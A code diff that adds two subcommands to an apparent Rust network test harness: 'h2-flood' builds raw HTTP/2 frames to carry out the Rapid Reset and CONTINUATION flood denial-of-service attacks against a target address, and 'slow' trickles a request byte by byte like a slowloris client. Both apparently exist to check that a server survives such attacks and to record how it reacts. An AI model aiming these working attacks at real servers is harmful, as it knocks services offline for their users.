@@ -23,6 +23,17 @@
 //! each distinct body came back; it exits non-zero unless every answer
 //! was 200.
 //!
+//! `mesh-pod h2-flood --to ADDR --attack rapid-reset|continuation` speaks
+//! HTTP/2 (prior knowledge) abusively: it opens and at once cancels
+//! stream after stream, or sends one header block as endless CONTINUATION
+//! frames, until the peer closes; it prints the GOAWAY code it got (null
+//! if none), the bytes it managed to send and the responses it saw.
+//!
+//! `mesh-pod slow --to ADDR --request PREFIX` is a slow client: it sends
+//! PREFIX and then `a`s, a byte every `--interval-ms`, and prints how long
+//! the peer took to close the connection (null if it had not after
+//! `--max-secs`) and the first line of any answer.
+//!
 //! For benchmarks: `bench-http --to ADDR --connections C --requests N`
 //! times N keep-alive GETs over C connections (one thread each) and prints
 //! p50/p99 and requests per second; `sink --listen ADDR` reads each
@@ -37,7 +48,7 @@ use std::{
     time::Duration,
 };
 
-use clap::{Parser, Subcommand};
+use clap::{Parser, Subcommand, ValueEnum};
 
 #[derive(Debug, Parser)]
 struct Cli {
@@ -95,6 +106,29 @@ enum Command {
         to: SocketAddr,
         #[arg(long)]
         request: String,
+    },
+    /// Abuse an HTTP/2 connection until the peer hangs up.
+    H2Flood {
+        #[arg(long)]
+        to: SocketAddr,
+        #[arg(long)]
+        attack: Attack,
+        /// Give up (the peer never closed) after this many bytes.
+        #[arg(long, default_value_t = 64 << 20)]
+        max_bytes: u64,
+    },
+    /// Trickle a request that never ends, a byte at a time (or, with an
+    /// interval of 0, connect and send nothing).
+    Slow {
+        #[arg(long)]
+        to: SocketAddr,
+        /// Sent first (with `\r` and `\n` escapes), a byte at a time.
+        #[arg(long, default_value = "")]
+        request: String,
+        #[arg(long, default_value_t = 200)]
+        interval_ms: u64,
+        #[arg(long, default_value_t = 30)]
+        max_secs: u64,
     },
     /// Read every connection to its end; answer with the byte count.
     Sink {
@@ -172,6 +206,25 @@ fn main() -> ExitCode {
         } => report("bench-http", bench_http(to, connections, requests)),
         Command::Sink { listen } => report("sink", sink(listen)),
         Command::Raw { to, request } => report("raw", raw(to, &request)),
+        Command::Slow {
+            to,
+            request,
+            interval_ms,
+            max_secs,
+        } => report(
+            "slow",
+            slow(
+                to,
+                &request,
+                Duration::from_millis(interval_ms),
+                Duration::from_secs(max_secs),
+            ),
+        ),
+        Command::H2Flood {
+            to,
+            attack,
+            max_bytes,
+        } => report("h2-flood", h2_flood(to, attack, max_bytes)),
         Command::Bulk { to, bytes } => report("bulk", bulk(to, bytes)),
         Command::BenchConnect { to, count } => match bench_connect(to, count) {
             Ok(()) => ExitCode::SUCCESS,
@@ -497,6 +550,200 @@ fn raw(to: SocketAddr, request: &str) -> io::Result<()> {
     // A reset is an answer too: the request went nowhere.
     let _ = io::BufRead::read_line(&mut reader, &mut line);
     println!("{}", serde_json::json!({ "status_line": line.trim_end() }));
+    Ok(())
+}
+
+fn slow(to: SocketAddr, request: &str, interval: Duration, max: Duration) -> io::Result<()> {
+    let prefix = request.replace("\\r", "\r").replace("\\n", "\n");
+    let stream = open(
+        to,
+        Client {
+            mark: None,
+            local_port: None,
+        },
+    )?;
+    // Only the peer ends the wait.
+    stream.set_read_timeout(None)?;
+    let started = std::time::Instant::now();
+    let reader = {
+        let stream = stream.try_clone()?;
+        thread::spawn(move || {
+            let mut answer = String::new();
+            // Until an answer, the end or a reset: the peer hung up, or
+            // we did (after `max`).
+            let _ = io::BufRead::read_line(&mut io::BufReader::new(stream), &mut answer);
+            (started.elapsed(), answer)
+        })
+    };
+    let mut writer = &stream;
+    let mut bytes = prefix.bytes().chain(std::iter::repeat(b'a'));
+    let mut sent = 0u64;
+    while !reader.is_finished() && started.elapsed() < max {
+        // An interval of zero: an idle client, sending nothing.
+        if interval.is_zero() {
+            thread::sleep(Duration::from_millis(20));
+            continue;
+        }
+        let Some(byte) = bytes.next() else { break };
+        if writer.write_all(&[byte]).is_err() {
+            break;
+        }
+        sent += 1;
+        thread::sleep(interval);
+    }
+    let closed = reader.is_finished();
+    let _ = stream.shutdown(std::net::Shutdown::Both);
+    let (after, answer) = reader.join().expect("the reader panicked");
+    println!(
+        "{}",
+        serde_json::json!({
+            "closed_after_ms": closed.then_some(after.as_millis() as u64),
+            "sent_bytes": sent,
+            "answer": answer.trim_end(),
+        })
+    );
+    Ok(())
+}
+
+#[derive(Clone, Copy, Debug, ValueEnum)]
+enum Attack {
+    /// HEADERS then RST_STREAM, stream after stream (CVE-2023-44487).
+    RapidReset,
+    /// One HEADERS without END_HEADERS, then CONTINUATION frames forever
+    /// (CVE-2024-27316 and kin).
+    Continuation,
+}
+
+/// One HTTP/2 frame: 9-byte head (length, type, flags, stream) + payload.
+fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let mut frame = Vec::with_capacity(9 + payload.len());
+    frame.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
+    frame.push(kind);
+    frame.push(flags);
+    frame.extend_from_slice(&stream.to_be_bytes());
+    frame.extend_from_slice(payload);
+    frame
+}
+
+fn h2_flood(to: SocketAddr, attack: Attack, max_bytes: u64) -> io::Result<()> {
+    use std::sync::{
+        Arc,
+        atomic::{AtomicBool, Ordering},
+    };
+    const HEADERS: u8 = 0x1;
+    const RST_STREAM: u8 = 0x3;
+    const SETTINGS: u8 = 0x4;
+    const GOAWAY: u8 = 0x7;
+    const CONTINUATION: u8 = 0x9;
+    const END_STREAM: u8 = 0x1;
+    const END_HEADERS: u8 = 0x4;
+    // HPACK: :method GET, :scheme http, :path / (indexed), then
+    // :authority "r" (literal, indexed name 1, not indexed).
+    const REQUEST: [u8; 6] = [0x82, 0x86, 0x84, 0x01, 0x01, b'r'];
+
+    let stream = open(
+        to,
+        Client {
+            mark: None,
+            local_port: None,
+        },
+    )?;
+    stream.set_read_timeout(Some(Duration::from_secs(10)))?;
+    let hung_up = Arc::new(AtomicBool::new(false));
+    let reader = {
+        let mut stream = stream.try_clone()?;
+        let hung_up = hung_up.clone();
+        thread::spawn(move || {
+            let (mut goaway, mut responses) = (None, 0u64);
+            let mut head = [0u8; 9];
+            while stream.read_exact(&mut head).is_ok() {
+                let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
+                let mut payload = vec![0; length];
+                if stream.read_exact(&mut payload).is_err() {
+                    break;
+                }
+                match head[3] {
+                    GOAWAY if length >= 8 => {
+                        goaway = Some(u32::from_be_bytes([
+                            payload[4], payload[5], payload[6], payload[7],
+                        ]));
+                    }
+                    HEADERS => responses += 1,
+                    _ => {}
+                }
+            }
+            hung_up.store(true, Ordering::SeqCst);
+            (goaway, responses)
+        })
+    };
+
+    let mut writer = &stream;
+    let mut sent = 0u64;
+    let mut send = |bytes: &[u8]| -> bool {
+        if hung_up.load(Ordering::SeqCst) || sent >= max_bytes {
+            return false;
+        }
+        match writer.write_all(bytes) {
+            Ok(()) => {
+                sent += bytes.len() as u64;
+                true
+            }
+            Err(_) => false,
+        }
+    };
+    let mut preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    preface.extend(h2_frame(SETTINGS, 0, 0, &[]));
+    let mut streams = 0u32;
+    if send(&preface) {
+        match attack {
+            Attack::RapidReset => {
+                // 100 open-and-cancel pairs per write, as fast as it goes.
+                let mut id = 1u32;
+                loop {
+                    let mut batch = Vec::new();
+                    for _ in 0..100 {
+                        batch.extend(h2_frame(HEADERS, END_STREAM | END_HEADERS, id, &REQUEST));
+                        batch.extend(h2_frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
+                        id += 2;
+                    }
+                    if id >= 1 << 30 || !send(&batch) {
+                        break;
+                    }
+                    streams = id / 2;
+                }
+            }
+            Attack::Continuation => {
+                streams = 1;
+                let mut first = h2_frame(HEADERS, END_STREAM, 1, &REQUEST);
+                // Each CONTINUATION adds one small header field; none ends
+                // the block.
+                let field = [&[0x00, 0x03][..], b"x-a", &[0x01], b"b"].concat();
+                let more = h2_frame(CONTINUATION, 0, 1, &field);
+                first.extend_from_slice(&more);
+                let batch: Vec<u8> = more
+                    .iter()
+                    .copied()
+                    .cycle()
+                    .take(more.len() * 100)
+                    .collect();
+                if send(&first) {
+                    while send(&batch) {}
+                }
+            }
+        }
+    }
+    let _ = stream.shutdown(std::net::Shutdown::Write);
+    let (goaway, responses) = reader.join().expect("the reader panicked");
+    println!(
+        "{}",
+        serde_json::json!({
+            "goaway": goaway,
+            "sent_bytes": sent,
+            "streams": streams,
+            "responses": responses,
+            "gave_up": sent >= max_bytes,
+        })
+    );
     Ok(())
 }
 
